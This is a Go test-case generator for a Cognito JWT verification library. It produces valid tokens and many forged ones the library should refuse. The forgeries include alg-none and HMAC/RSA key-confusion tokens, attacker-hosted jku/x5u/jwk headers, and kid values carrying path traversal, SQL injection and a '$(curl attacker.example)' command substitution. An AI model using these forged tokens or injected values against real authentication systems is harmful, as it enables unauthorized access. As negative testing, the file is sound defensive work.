package main

import (
	"crypto"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"strconv"
	"strings"
)

// all adds every case, family by family. Each case names the reason cognitokit must
// give, from its documented rules (docs/verifying-tokens.md, "Why a token is refused"); notes say why
// where the name does not.
func (g *gen) all() {
	g.valid()
	g.alg()
	g.kid()
	g.headerParams()
	g.structure()
	g.encoding()
	g.sizes()
	g.expiry()
	g.notBefore()
	g.issuedAt()
	g.subject()
	g.issuers()
	g.tokenUse()
	g.clients()
	g.audiences()
	g.scopes()
	g.groups()
	g.claimTypes()
	g.duplicates()
}

// access returns a valid machine access token of client A with claim changes.
func (g *gen) access(pairs ...any) string {
	return g.accessToken(g.machineAccess(clientA).with(pairs...))
}

// header returns client A's machine access token with header changes, RS256-signed by
// the pool's access key whatever the header says.
func (g *gen) header(pairs ...any) string {
	return jws(g.accessHeader().with(pairs...), g.machineAccess(clientA), g.signAccess())
}

func (g *gen) valid() {
	const grp = "valid"
	g.add(tc{name: "valid machine access token", group: grp, token: g.access()})
	g.add(tc{name: "valid user access token", group: grp, token: g.accessToken(g.userAccess(clientA, "admin", "ops"))})
	g.add(tc{name: "valid ID token", group: grp, config: cfgID, token: g.idToken(g.idClaims(clientA))})
	g.add(tc{name: "ID token whose aud array holds the client", group: grp, config: cfgID,
		token: g.idToken(g.idClaims([]string{clientC, clientA}))})
	g.add(tc{name: "ID token whose aud array is the client alone", group: grp, config: cfgID,
		token: g.idToken(g.idClaims([]string{clientA}))})
	g.add(tc{name: "access token of any client, any-client config", group: grp, config: cfgAny,
		token: g.accessToken(g.machineAccess(clientC))})
	g.add(tc{name: "ID token of any client, any config", group: grp, config: cfgAny,
		token: g.idToken(g.idClaims("some-other-client"))})
	g.add(tc{name: "access token of the second allowed client", group: grp, config: cfgMulti,
		token: g.accessToken(g.machineAccess(clientB))})
	g.add(tc{name: "token with one of the required scopes", group: grp, config: cfgScopes,
		token: g.accessToken(g.machineAccess(clientB).with("scope", "orders/read orders/write"))})
	g.add(tc{name: "scopes separated by two spaces", group: grp, config: cfgScopes,
		token: g.accessToken(g.machineAccess(clientB).with("scope", "orders/read  orders/admin"))})
	g.add(tc{name: "user in a required group", group: grp, config: cfgGroups,
		token: g.accessToken(g.userAccess(clientC, "ops", "admin"))})
	g.add(tc{name: "ID token of a user in a required group", group: grp, config: cfgGroups,
		token: g.idToken(g.idClaims(clientC))})
	g.add(tc{name: "issuer-cognito-idp issuer", group: grp,
		token: g.access("iss", "https://issuer-cognito-idp."+region+".amazonaws.com/"+poolID)})
	g.add(tc{name: "typ JWT header", group: grp, token: g.header("typ", "JWT")})
	g.add(tc{name: "typ at+jwt header", group: grp, token: g.header("typ", "at+jwt")})
	g.add(tc{name: "exp at the end of year 9999", group: grp, token: g.access("exp", farFuture),
		note: "the largest exp cognitokit reads; valid however late the corpus is run"})
	g.add(tc{name: "user token with exp at the end of year 9999", group: grp, config: cfgGroups,
		token: g.accessToken(g.userAccess(clientC, "auditors").with("exp", farFuture))})
	g.add(tc{name: "exp with a fraction of a second", group: grp, token: g.access("exp", rawJSON(strconv.FormatInt(g.now+3540, 10)+".25"))})
	g.add(tc{name: "exp in exponent notation", group: grp, token: g.access("exp", rawJSON(strconv.FormatInt(g.now+3540, 10)+"e0"))})
	g.add(tc{name: "custom and unknown claims", group: grp, token: g.access("custom:tenant", "acme",
		"x-nested", obj{{"a", 1}, {"b", []any{true, nil, "c"}}})})
	g.add(tc{name: "access token signed with the ID-token key under its kid", group: grp,
		token: jws(g.idHeader(), g.machineAccess(clientA), g.signID()),
		note:  "keys are not bound to a token use: both keys are the pool's"})
	g.add(tc{name: "aud on an access token is ignored", group: grp, token: g.access("aud", "someone-else")})
	g.add(tc{name: "client_id on an ID token is ignored", group: grp, config: cfgID,
		token: g.idToken(g.idClaims(clientA).with("client_id", clientC))})
	g.add(tc{name: "empty scope claim", group: grp, token: g.access("scope", "")})
	g.add(tc{name: "empty groups array", group: grp, token: g.accessToken(g.userAccess(clientA).with("cognito:groups", []string{}))})
	g.add(tc{name: "email_verified as the string true", group: grp, config: cfgID,
		token: g.idToken(g.idClaims(clientA).with("email_verified", "true"))})
	g.add(tc{name: "no iat", group: grp, token: g.access("iat", del)})
	g.add(tc{name: "no auth_time, jti or version", group: grp, token: g.access("auth_time", del, "jti", del, "version", del)})
	g.add(tc{name: "deeply nested custom claim", group: grp,
		token: g.access("x-deep", rawJSON(strings.Repeat("[", 2000)+strings.Repeat("]", 2000)))})
	g.add(tc{name: "invalid UTF-8 in a custom claim", group: grp,
		token: jws(g.accessHeader(), strings.Replace(string(enc(g.machineAccess(clientA).with("x-bytes", "AB"))), "AB", "A\xff\xfeB", 1), g.signAccess()),
		note:  "decoded with U+FFFD replacement by both JSON decoders"})
	g.add(tc{name: "lone surrogate escape in sub", group: grp, token: g.access("sub", rawJSON(`"\ud800-user"`))})
	g.add(tc{name: "NUL character in a claim", group: grp, token: g.access("x-nul", "a\x00b")})
}

func (g *gen) alg() {
	const grp = "alg"
	noneSig := func(algName string) string {
		t := g.header("alg", algName)
		return t[:strings.LastIndexByte(t, '.')+1]
	}
	g.add(tc{name: "alg none, empty signature", group: grp, token: noneSig("none"), reason: rAlg})
	g.add(tc{name: "alg none, signature kept", group: grp, token: g.header("alg", "none"), reason: rAlg})
	g.add(tc{name: "alg None", group: grp, token: noneSig("None"), reason: rAlg})
	g.add(tc{name: "alg NONE", group: grp, token: noneSig("NONE"), reason: rAlg})
	g.add(tc{name: "alg nOnE", group: grp, token: noneSig("nOnE"), reason: rAlg})
	g.add(tc{name: "alg none without kid", group: grp, reason: rAlg,
		token: jws(obj{{"alg", "none"}}, g.machineAccess(clientA), func([]byte) []byte { return nil })})

	// Key confusion: HMAC keyed with the RSA public key the JWKS publishes.
	pkix, err := x509.MarshalPKIXPublicKey(&g.accessKey.PublicKey)
	if err != nil {
		panic(err)
	}
	pemPKIX := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix})
	pemPKCS1 := pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(&g.accessKey.PublicKey)})
	jwkJSON := enc(g.jwks[0])
	confusions := []struct {
		name   string
		alg    string
		secret []byte
		hash   string
	}{
		{"HS256 keyed with the public key PEM (SPKI)", "HS256", pemPKIX, "256"},
		{"HS256 keyed with the public key PEM without its final newline", "HS256", []byte(strings.TrimSuffix(string(pemPKIX), "\n")), "256"},
		{"HS256 keyed with the public key PEM (PKCS#1)", "HS256", pemPKCS1, "256"},
		{"HS256 keyed with the public key DER", "HS256", pkix, "256"},
		{"HS256 keyed with the public JWK JSON", "HS256", jwkJSON, "256"},
		{"HS256 keyed with the modulus bytes", "HS256", g.accessKey.N.Bytes(), "256"},
		{"HS384 keyed with the public key PEM", "HS384", pemPKIX, "384"},
		{"HS512 keyed with the public key PEM", "HS512", pemPKIX, "512"},
		{"HS384 keyed with the public JWK JSON", "HS384", jwkJSON, "384"},
		{"HS512 keyed with the public JWK JSON", "HS512", jwkJSON, "512"},
	}
	for _, c := range confusions {
		var s signer
		switch c.hash {
		case "256":
			s = hs(c.secret, sha256Hash)
		case "384":
			s = hs(c.secret, sha384Hash)
		default:
			s = hs(c.secret, sha512Hash)
		}
		g.add(tc{name: c.name, group: grp, reason: rAlg,
			token: jws(g.accessHeader().with("alg", c.alg), g.machineAccess(clientA), s)})
	}
	g.add(tc{name: "HS256 with the pool kid and no secret", group: grp, reason: rAlg,
		token: jws(g.accessHeader().with("alg", "HS256"), g.machineAccess(clientA), hs(nil, sha256Hash))})

	// RSA variants, really signed by the pool's access key under its kid.
	for _, v := range []struct {
		alg string
		s   signer
	}{
		{"RS384", rs(g.accessKey, crypto.SHA384)},
		{"RS512", rs(g.accessKey, crypto.SHA512)},
		{"PS256", ps(g.accessKey, crypto.SHA256, g.salts)},
		{"PS384", ps(g.accessKey, crypto.SHA384, g.salts)},
		{"PS512", ps(g.accessKey, crypto.SHA512, g.salts)},
	} {
		g.add(tc{name: v.alg + " signed by the pool key", group: grp, reason: rAlg,
			token: jws(g.accessHeader().with("alg", v.alg), g.machineAccess(clientA), v.s)})
	}
	g.add(tc{name: "RS512 signed by a published key without alg", group: grp, reason: rAlg,
		token: jws(obj{{"kid", kidNoAlg}, {"alg", "RS512"}}, g.machineAccess(clientA), rs(g.accessKey, crypto.SHA512)),
		note:  "Cognito signs RS256 only; the key's missing alg does not widen that"})
	g.add(tc{name: "PS256 signed by a published key without alg", group: grp, reason: rAlg,
		token: jws(obj{{"kid", kidNoAlg}, {"alg", "PS256"}}, g.machineAccess(clientA), ps(g.accessKey, crypto.SHA256, g.salts))})
	g.add(tc{name: "RS256 signed by a published key without alg", group: "valid",
		token: jws(obj{{"kid", kidNoAlg}, {"alg", "RS256"}}, g.machineAccess(clientA), g.signAccess()),
		note:  "a key without alg may verify RS256"})

	// EC: the JWKS publishes an ES256 key; Cognito never signs with one.
	g.add(tc{name: "ES256 signed by the published EC key", group: grp, reason: rAlg,
		token: jws(obj{{"kid", kidEC}, {"alg", "ES256"}}, g.machineAccess(clientA), es256(g.ec)),
		note:  "a genuine ES256 signature of a key in the JWKS: cognitokit accepts RS256 only"})
	g.add(tc{name: "ES384 header naming the EC key", group: grp, reason: rAlg,
		token: jws(obj{{"kid", kidEC}, {"alg", "ES384"}}, g.machineAccess(clientA), es256(g.ec))})
	g.add(tc{name: "ES256 header naming the RSA key", group: grp, reason: rAlg, token: g.header("alg", "ES256")})
	g.add(tc{name: "RS256 header naming the EC key", group: grp, reason: rAlg,
		token: jws(obj{{"kid", kidEC}, {"alg", "RS256"}}, g.machineAccess(clientA), g.signAccess())})
	g.add(tc{name: "RS256 signed by a 1024-bit key in the JWKS", group: grp, reason: rAlg,
		token: jws(obj{{"kid", kidShort}, {"alg", "RS256"}}, g.machineAccess(clientA), rs(g.short, crypto.SHA256)),
		note:  "keys under 2048 bits are refused (RFC 7518 §3.3)"})
	g.add(tc{name: "RS256 naming a key published for RS512", group: grp, reason: rAlg,
		token: jws(obj{{"kid", kidRS512}, {"alg", "RS256"}}, g.machineAccess(clientA), g.signID())})
	g.add(tc{name: "RS512 naming a key published for RS512", group: grp, reason: rAlg,
		token: jws(obj{{"kid", kidRS512}, {"alg", "RS512"}}, g.machineAccess(clientA), rs(g.idKey, crypto.SHA512))})
	g.add(tc{name: "RS256 naming a key published for encryption", group: grp, reason: rAlg,
		token: jws(obj{{"kid", kidEnc}, {"alg", "RS256"}}, g.machineAccess(clientA), g.signAccess())})

	// Spellings.
	for _, v := range []struct {
		name string
		alg  any
		want string
	}{
		{"alg rs256 in lower case", "rs256", rAlg},
		{"alg with a trailing space", "RS256 ", rAlg},
		{"alg with a leading space", " RS256", rAlg},
		{"alg EdDSA", "EdDSA", rAlg},
		{"alg HS256 over an RS256 signature", "HS256", rAlg},
		{"alg RSA-OAEP (an encryption algorithm)", "RSA-OAEP", rAlg},
		{"alg missing", del, rAlg},
		{"alg null", nil, rAlg},
		{"alg empty", "", rAlg},
		{"alg is a number", 256, rMalformed},
		{"alg is an array", []string{"RS256"}, rMalformed},
		{"alg is an object", obj{{"name", "RS256"}}, rMalformed},
		{"alg is true", true, rMalformed},
	} {
		g.add(tc{name: v.name, group: grp, token: g.header("alg", v.alg), reason: v.want})
	}
	kid := string(enc(g.kidAccess))
	g.add(tc{name: "ALG after alg none: header names are case-sensitive", group: grp, reason: rAlg,
		token: jws(`{"kid":`+kid+`,"alg":"none","ALG":"RS256"}`, g.machineAccess(clientA), g.signAccess()),
		note:  "RFC 7515 §4: names are case-sensitive; ALG is an unknown parameter, alg is none"})
	g.add(tc{name: "Alg RS256 before alg none", group: grp, reason: rAlg,
		token: jws(`{"kid":`+kid+`,"Alg":"RS256","alg":"none"}`, g.machineAccess(clientA), g.signAccess())})
	g.add(tc{name: "only Alg RS256, no alg", group: grp, reason: rAlg,
		token: jws(`{"kid":`+kid+`,"Alg":"RS256"}`, g.machineAccess(clientA), g.signAccess())})
}

func (g *gen) kid() {
	const grp = "kid"
	long := strings.Repeat("k", 8<<10)
	for _, v := range []struct {
		name string
		kid  any
		want string
	}{
		{"kid missing", del, rNoKid},
		{"kid empty", "", rNoKid},
		{"kid null", nil, rNoKid},
		{"kid is a number", 7, rMalformed},
		{"kid is true", true, rMalformed},
		{"kid is an object", obj{{"id", g.kidAccess}}, rMalformed},
		{"kid is an array holding the pool kid", []string{g.kidAccess}, rMalformed},
		{"kid unknown", kidAbsent, rUnknownKey},
		{"kid path traversal", "../../../../../../etc/passwd", rUnknownKey},
		{"kid /dev/null", "/dev/null", rUnknownKey},
		{"kid file URL", "file:///etc/passwd", rUnknownKey},
		{"kid https URL", "https://attacker.example/jwks.json", rUnknownKey},
		{"kid SQL tautology", "' OR '1'='1", rUnknownKey},
		{"kid SQL union", "x' UNION SELECT 'c2VjcmV0' --", rUnknownKey},
		{"kid SQL drop", `k"; DROP TABLE keys; --`, rUnknownKey},
		{"kid command substitution", "$(curl attacker.example)", rUnknownKey},
		{"kid of 8 KiB", long, rUnknownKey},
		{"kid with a NUL byte", g.kidAccess + "\x00", rUnknownKey},
		{"kid with CRLF", "a\r\nb", rUnknownKey},
		{"kid with a trailing space", g.kidAccess + " ", rUnknownKey},
		{"kid in other case", swapCase(g.kidAccess), rUnknownKey},
		{"kid with a Cyrillic look-alike", lookalike(g.kidAccess), rUnknownKey},
		{"kid wildcard", "*", rUnknownKey},
		{"kid null as a string", "null", rUnknownKey},
		{"kid of the ID key on an access-key signature", g.kidID, rSignature},
	} {
		g.add(tc{name: v.name, group: grp, token: g.header("kid", v.kid), reason: v.want})
	}
	g.add(tc{name: "duplicate kid in the JWKS, signed by the first key", group: grp,
		token: jws(obj{{"kid", kidDup}, {"alg", "RS256"}}, g.machineAccess(clientA), g.signID()),
		note:  "of two keys with one kid the first is kept"})
	g.add(tc{name: "duplicate kid in the JWKS, signed by the second key", group: grp, reason: rSignature,
		token: jws(obj{{"kid", kidDup}, {"alg", "RS256"}}, g.machineAccess(clientA), rs(g.dup2, crypto.SHA256))})
	g.add(tc{name: "KID naming the pool key after an unknown kid", group: grp, reason: rUnknownKey,
		token: jws(`{"kid":"`+kidAbsent+`","alg":"RS256","KID":`+string(enc(g.kidAccess))+`}`, g.machineAccess(clientA), g.signAccess()),
		note:  "header names are case-sensitive: KID is an unknown parameter"})
	g.add(tc{name: "only Kid, no kid", group: grp, reason: rNoKid,
		token: jws(`{"Kid":`+string(enc(g.kidAccess))+`,"alg":"RS256"}`, g.machineAccess(clientA), g.signAccess())})
}

// swapCase changes the case of every letter.
func swapCase(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return r - 32
		case r >= 'A' && r <= 'Z':
			return r + 32
		}
		return r
	}, s)
}

// lookalike replaces the first Latin letter that has a Cyrillic twin.
func lookalike(s string) string {
	twins := map[rune]rune{'a': 'а', 'e': 'е', 'o': 'о', 'c': 'с', 'p': 'р', 'x': 'х', 'A': 'А', 'E': 'Е', 'O': 'О', 'C': 'С', 'P': 'Р'}
	for i, r := range s {
		if t, ok := twins[r]; ok {
			return s[:i] + string(t) + s[i+len(string(r)):]
		}
	}
	panic("no letter with a look-alike in " + s)
}

func (g *gen) headerParams() {
	const grp = "header"
	attackerJWK := rsaJWK(&g.attacker.PublicKey, kv{"alg", "RS256"}, kv{"kid", "attacker-1"}, kv{"use", "sig"})
	der, err := x509.MarshalPKIXPublicKey(&g.attacker.PublicKey)
	if err != nil {
		panic(err)
	}
	x5c := []string{base64.StdEncoding.EncodeToString(der)}
	signAttacker := rs(g.attacker, crypto.SHA256)
	// Pointing elsewhere while signed by the pool: ignored, valid.
	g.add(tc{name: "jku to an attacker JWKS, pool signature", group: grp, token: g.header("jku", "https://attacker.example/.well-known/jwks.json")})
	g.add(tc{name: "jku to a loopback URL, pool signature", group: grp, token: g.header("jku", "http://127.0.0.1:1/jwks.json")})
	g.add(tc{name: "x5u to an attacker certificate, pool signature", group: grp, token: g.header("x5u", "https://attacker.example/cert.pem")})
	g.add(tc{name: "embedded attacker jwk, pool signature", group: grp, token: g.header("jwk", attackerJWK)})
	g.add(tc{name: "x5c of an attacker key, pool signature", group: grp, token: g.header("x5c", x5c)})
	g.add(tc{name: "x5t and x5t#S256 thumbprints, pool signature", group: grp, token: g.header("x5t", "AAAA", "x5t#S256", "AAAA")})
	// Signed by the attacker: the header's key material must never be used.
	g.add(tc{name: "jku to an attacker JWKS with its kid, attacker signature", group: grp, reason: rUnknownKey,
		token: jws(obj{{"kid", "attacker-1"}, {"alg", "RS256"}, {"jku", "https://attacker.example/jwks.json"}}, g.machineAccess(clientA), signAttacker)})
	g.add(tc{name: "jku to an attacker JWKS with the pool kid, attacker signature", group: grp, reason: rSignature,
		token: jws(g.accessHeader().with("jku", "https://attacker.example/jwks.json"), g.machineAccess(clientA), signAttacker)})
	g.add(tc{name: "embedded attacker jwk with the pool kid, attacker signature", group: grp, reason: rSignature,
		token: jws(g.accessHeader().with("jwk", attackerJWK), g.machineAccess(clientA), signAttacker)})
	g.add(tc{name: "embedded attacker jwk without kid, attacker signature", group: grp, reason: rNoKid,
		token: jws(obj{{"alg", "RS256"}, {"jwk", attackerJWK}}, g.machineAccess(clientA), signAttacker)})
	g.add(tc{name: "x5c of the attacker key with the pool kid, attacker signature", group: grp, reason: rSignature,
		token: jws(g.accessHeader().with("x5c", x5c), g.machineAccess(clientA), signAttacker)})
	g.add(tc{name: "x5u to the attacker with the pool kid, attacker signature", group: grp, reason: rSignature,
		token: jws(g.accessHeader().with("x5u", "https://attacker.example/cert.pem"), g.machineAccess(clientA), signAttacker)})
	g.add(tc{name: "attacker signature under the pool kid", group: grp, reason: rSignature,
		token: jws(g.accessHeader(), g.machineAccess(clientA), signAttacker)})

	// crit: no extension is understood, so any crit is refused (RFC 7515 §4.1.11).
	g.add(tc{name: "crit naming exp", group: grp, reason: rHeader, token: g.header("crit", []string{"exp"}, "exp", g.now+3600)})
	g.add(tc{name: "crit empty array", group: grp, reason: rHeader, token: g.header("crit", []string{})})
	g.add(tc{name: "crit null", group: grp, reason: rHeader, token: g.header("crit", nil),
		note: `"crit": null is still a crit parameter`})
	g.add(tc{name: "crit as a string", group: grp, reason: rHeader, token: g.header("crit", "b64")})
	g.add(tc{name: "crit naming an unknown extension", group: grp, reason: rHeader, token: g.header("crit", []string{"x-unknown"}, "x-unknown", true)})
	g.add(tc{name: "crit b64 with b64 false, payload encoded", group: grp, reason: rHeader,
		token: g.header("b64", false, "crit", []string{"b64"})})
	unencoded := enc(g.machineAccess(clientA))
	h := b64(enc(g.accessHeader().with("b64", false, "crit", []string{"b64"})))
	g.add(tc{name: "crit b64 with b64 false, payload unencoded (RFC 7797)", group: grp, reason: rMalformed,
		token: h + "." + string(unencoded) + "." + b64(g.signAccess()([]byte(h+"."+string(unencoded))))})
	g.add(tc{name: "b64 false without crit", group: grp, token: g.header("b64", false),
		note: "b64 outside crit is an unknown parameter and ignored; the payload is base64url as usual"})
	g.add(tc{name: "CRIT in upper case is not crit", group: grp,
		token: jws(`{"kid":`+string(enc(g.kidAccess))+`,"alg":"RS256","CRIT":["exp"]}`, g.machineAccess(clientA), g.signAccess()),
		note:  "header names are case-sensitive: CRIT is an unknown, ignored parameter"})
	g.add(tc{name: "cty JWT on a JSON payload", group: grp, token: g.header("cty", "JWT")})
	g.add(tc{name: "zip DEF on an uncompressed payload", group: grp, token: g.header("zip", "DEF"),
		note: "zip is a JWE parameter; meaningless in a JWS and ignored"})
}

func (g *gen) structure() {
	const grp = "structure"
	valid := g.access()
	other := g.access("scope", "orders/admin")
	dot1 := strings.IndexByte(valid, '.')
	dot2 := strings.LastIndexByte(valid, '.')
	g.add(tc{name: "empty token", group: grp, token: "", reason: rMalformed})
	g.add(tc{name: "a single dot", group: grp, token: ".", reason: rMalformed})
	g.add(tc{name: "two dots", group: grp, token: "..", reason: rMalformed})
	g.add(tc{name: "three dots", group: grp, token: "...", reason: rMalformed})
	g.add(tc{name: "header only", group: grp, token: valid[:dot1], reason: rMalformed})
	g.add(tc{name: "header and payload without a signature part", group: grp, token: valid[:dot2], reason: rMalformed})
	g.add(tc{name: "four parts", group: grp, token: valid + ".AAAA", reason: rMalformed})
	g.add(tc{name: "trailing dot", group: grp, token: valid + ".", reason: rMalformed})
	g.add(tc{name: "leading dot", group: grp, token: "." + valid, reason: rMalformed})
	jweHeader := b64(enc(obj{{"alg", "RSA-OAEP-256"}, {"enc", "A256GCM"}, {"kid", g.kidAccess}}))
	g.add(tc{name: "JWE compact serialization (5 parts)", group: grp, reason: rMalformed,
		token: jweHeader + "." + b64(g.values.bytes(256)) + "." + b64(g.values.bytes(12)) + "." + b64(g.values.bytes(96)) + "." + b64(g.values.bytes(16))})
	g.add(tc{name: "JWE with direct key agreement (empty key part)", group: grp, reason: rMalformed,
		token: b64(enc(obj{{"alg", "dir"}, {"enc", "A128CBC-HS256"}})) + ".." + b64(g.values.bytes(16)) + "." + b64(g.values.bytes(64)) + "." + b64(g.values.bytes(16))})
	g.add(tc{name: "nested JWT: payload is a signed JWT", group: grp, reason: rMalformed,
		token: jws(g.accessHeader().with("cty", "JWT"), valid, g.signAccess()),
		note:  "the payload must be a JSON object of claims; nested JWTs are not unwrapped"})
	g.add(tc{name: "signature stripped", group: grp, token: valid[:dot2+1], reason: rSignature})
	sig := sigBytes(valid)
	g.add(tc{name: "signature truncated by one byte", group: grp, token: replaceSig(valid, b64(sig[:len(sig)-1])), reason: rSignature})
	g.add(tc{name: "signature truncated to half", group: grp, token: replaceSig(valid, b64(sig[:len(sig)/2])), reason: rSignature})
	g.add(tc{name: "signature extended by one byte", group: grp, token: replaceSig(valid, b64(append(append([]byte(nil), sig...), 0))), reason: rSignature})
	g.add(tc{name: "signature extended by two characters", group: grp, token: valid + "AA", reason: rSignature})
	g.add(tc{name: "signature of zero bytes", group: grp, token: replaceSig(valid, b64(make([]byte, len(sig)))), reason: rSignature})
	g.add(tc{name: "signature with one bit flipped", group: grp, token: replaceSig(valid, b64(flipBit(sig))), reason: rSignature})
	g.add(tc{name: "signature of another token", group: grp, token: replaceSig(other, valid[dot2+1:]), reason: rSignature})
	g.add(tc{name: "payload swapped between two valid tokens", group: grp, reason: rSignature,
		token: valid[:dot1] + other[strings.IndexByte(other, '.'):strings.LastIndexByte(other, '.')] + valid[dot2:]})
	id := g.idToken(g.idClaims(clientA))
	g.add(tc{name: "ID token payload under an access token's header and signature", group: grp, reason: rSignature,
		token: valid[:dot1] + id[strings.IndexByte(id, '.'):strings.LastIndexByte(id, '.')] + valid[dot2:]})
	g.add(tc{name: "access header over an ID token's payload and signature", group: grp, config: cfgID, reason: rSignature,
		token: valid[:dot1] + id[strings.IndexByte(id, '.'):]})

	// A signature whose first byte is zero, sent without it: a valid RSA integer, but
	// not the k-octet string RFC 7518 §3.3 requires.
	var zeroLed string
	for i := 0; ; i++ {
		t := g.access("jti", fmt.Sprintf("leading-zero-%d", i))
		if sigBytes(t)[0] == 0 {
			zeroLed = t
			break
		}
	}
	zs := sigBytes(zeroLed)
	g.add(tc{name: "signature with a leading zero byte, sent whole", group: grp, token: zeroLed})
	g.add(tc{name: "signature with its leading zero byte stripped", group: grp, token: replaceSig(zeroLed, b64(zs[1:])), reason: rSignature})
	g.add(tc{name: "signature with an extra leading zero byte", group: grp, token: replaceSig(valid, b64(append([]byte{0}, sig...))), reason: rSignature})

	// Header and payload that are not JSON objects, each signed as sent.
	payload := enc(g.machineAccess(clientA))
	hdr := g.accessHeaderJSON()
	for _, v := range []struct{ name, header string }{
		{"header not JSON", "not json"},
		{"header is a JSON array", "[" + hdr + "]"},
		{"header is JSON null", "null"},
		{"header is a JSON string", `"RS256"`},
		{"header with trailing garbage", hdr + "x"},
		{"header with a byte-order mark", "\ufeff" + hdr},
		{"header with a comment", `{"kid":` + string(enc(g.kidAccess)) + `,/*x*/"alg":"RS256"}`},
		{"header unterminated", hdr[:len(hdr)-1]},
		{"header of two objects", hdr + hdr},
	} {
		g.add(tc{name: v.name, group: grp, token: jws(v.header, payload, g.signAccess()), reason: rMalformed})
	}
	g.add(tc{name: "header is an empty object", group: grp, token: jws("{}", payload, g.signAccess()), reason: rAlg})
	g.add(tc{name: "header with surrounding whitespace", group: grp, token: jws("  \n"+hdr+"\t ", payload, g.signAccess())})
	for _, v := range []struct{ name, payload string }{
		{"payload not JSON", "not json"},
		{"payload is a JSON array", "[" + string(payload) + "]"},
		{"payload is JSON null", "null"},
		{"payload is a number", "1234"},
		{"payload is a JSON string", `"claims"`},
		{"payload with trailing garbage", string(payload) + "x"},
		{"payload with a byte-order mark", "\ufeff" + string(payload)},
		{"payload unterminated", string(payload[:len(payload)-1])},
		{"payload of two objects", string(payload) + string(payload)},
		{"payload with a number too large for a float", compactJSON(`{"x-big":1e400,` + string(payload[1:]))},
	} {
		g.add(tc{name: v.name, group: grp, token: jws(g.accessHeader(), v.payload, g.signAccess()), reason: rMalformed})
	}
	g.add(tc{name: "payload is an empty object", group: grp, token: jws(g.accessHeader(), "{}", g.signAccess()), reason: rIssuer,
		note: "no iss: refused before the signature"})
	g.add(tc{name: "payload with surrounding whitespace", group: grp, token: jws(g.accessHeader(), "\n "+string(payload)+"\n", g.signAccess())})
}

func flipBit(b []byte) []byte {
	out := append([]byte(nil), b...)
	out[len(out)/2] ^= 0x10
	return out
}

const b64Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

// spareBits sets the unused low bits of the last character of a base64url string whose
// length is not a multiple of 4: the same bytes, spelled another way.
func spareBits(s string) string {
	if len(s)%4 == 0 {
		panic("no spare bits in " + s)
	}
	i := strings.IndexByte(b64Alphabet, s[len(s)-1])
	return s[:len(s)-1] + string(b64Alphabet[i|1])
}

// padded appends base64 padding.
func padded(s string) string {
	if len(s)%4 == 0 {
		panic("nothing to pad in " + s)
	}
	return s + strings.Repeat("=", 4-len(s)%4)
}

// spaced appends spaces to a JSON text until its base64url form has spare bits (its
// length is not a multiple of 3).
func spaced(js []byte) []byte {
	for len(js)%3 == 0 {
		js = append(js, ' ')
	}
	return js
}

func (g *gen) encoding() {
	const grp = "encoding"
	valid := g.access()
	dot1 := strings.IndexByte(valid, '.')
	dot2 := strings.LastIndexByte(valid, '.')
	sigPart := valid[dot2+1:]
	h := b64(spaced(enc(g.accessHeader())))
	p := b64(spaced(enc(g.machineAccess(clientA))))

	g.add(tc{name: "padded signature", group: grp, token: valid[:dot2+1] + padded(sigPart), reason: rMalformed})
	g.add(tc{name: "padded header, signed as sent", group: grp, token: signEncoded(padded(h), p, g.signAccess()), reason: rMalformed})
	g.add(tc{name: "padded payload, signed as sent", group: grp, token: signEncoded(h, padded(p), g.signAccess()), reason: rMalformed})
	g.add(tc{name: "padded header, padding added after signing", group: grp, reason: rMalformed,
		token: padded(h) + signEncoded(h, p, g.signAccess())[len(h):]})
	g.add(tc{name: "non-canonical trailing bits in the signature", group: grp, token: valid[:dot2+1] + spareBits(sigPart), reason: rMalformed,
		note: "decodes to the same signature; refused so that every token has one spelling"})
	g.add(tc{name: "non-canonical trailing bits in the header, signed as sent", group: grp,
		token: signEncoded(spareBits(h), p, g.signAccess()), reason: rMalformed})
	g.add(tc{name: "non-canonical trailing bits in the payload, signed as sent", group: grp,
		token: signEncoded(h, spareBits(p), g.signAccess()), reason: rMalformed})
	std := strings.NewReplacer("-", "+", "_", "/").Replace(sigPart)
	if std == sigPart {
		panic("signature has no - or _")
	}
	g.add(tc{name: "standard base64 alphabet in the signature", group: grp, token: valid[:dot2+1] + std, reason: rMalformed})
	// JSON text is mostly ASCII letters, whose base64 rarely holds - or _: "???" does.
	var stdPayload string
	for i := 1; !strings.ContainsAny(stdPayload, "-_"); i++ {
		stdPayload = b64(enc(g.machineAccess(clientA).with("x-std", strings.Repeat("?", i))))
	}
	stdPayload = strings.NewReplacer("-", "+", "_", "/").Replace(stdPayload)
	g.add(tc{name: "standard base64 alphabet in the payload, signed as sent", group: grp,
		token: signEncoded(b64(enc(g.accessHeader())), stdPayload, g.signAccess()), reason: rMalformed})
	g.add(tc{name: "percent-encoded character", group: grp, token: valid[:dot1] + ".%65" + valid[dot1+2:], reason: rMalformed})

	// Whitespace anywhere: a token is one line of base64url.
	for _, v := range []struct{ name, token string }{
		{"leading space", " " + valid},
		{"trailing space", valid + " "},
		{"trailing newline", valid + "\n"},
		{"trailing CRLF", valid + "\r\n"},
		{"line break inside the payload", valid[:dot1+20] + "\n" + valid[dot1+20:]},
		{"space after the first dot", valid[:dot1+1] + " " + valid[dot1+1:]},
		{"tab inside the signature", valid[:dot2+10] + "\t" + valid[dot2+10:]},
		{"Bearer prefix left on", "Bearer " + valid},
		{"non-breaking space inside the header", valid[:5] + "\u00a0" + valid[5:]},
		{"NUL byte at the end", valid + "\x00"},
	} {
		g.add(tc{name: v.name, group: grp, token: v.token, reason: rMalformed})
	}
	g.add(tc{name: "escaped parameter names in the header", group: grp,
		token: jws(`{"\u006bid":`+string(enc(g.kidAccess))+`,"\u0061lg":"RS\u0032\u00356"}`, g.machineAccess(clientA), g.signAccess()),
		note:  "JSON escapes decode to kid and alg: RS256"})
	g.add(tc{name: "escaped claim names in the payload", group: grp,
		token: jws(g.accessHeader(), strings.Replace(string(enc(g.machineAccess(clientA))), `"client_id"`, `"client\u005fid"`, 1), g.signAccess())})
	g.add(tc{name: "escaped slashes in iss", group: grp,
		token: jws(g.accessHeader(), strings.Replace(string(enc(g.machineAccess(clientA))), `"https://cognito-idp.`, `"https:\/\/cognito-idp.`, 1), g.signAccess())})
}

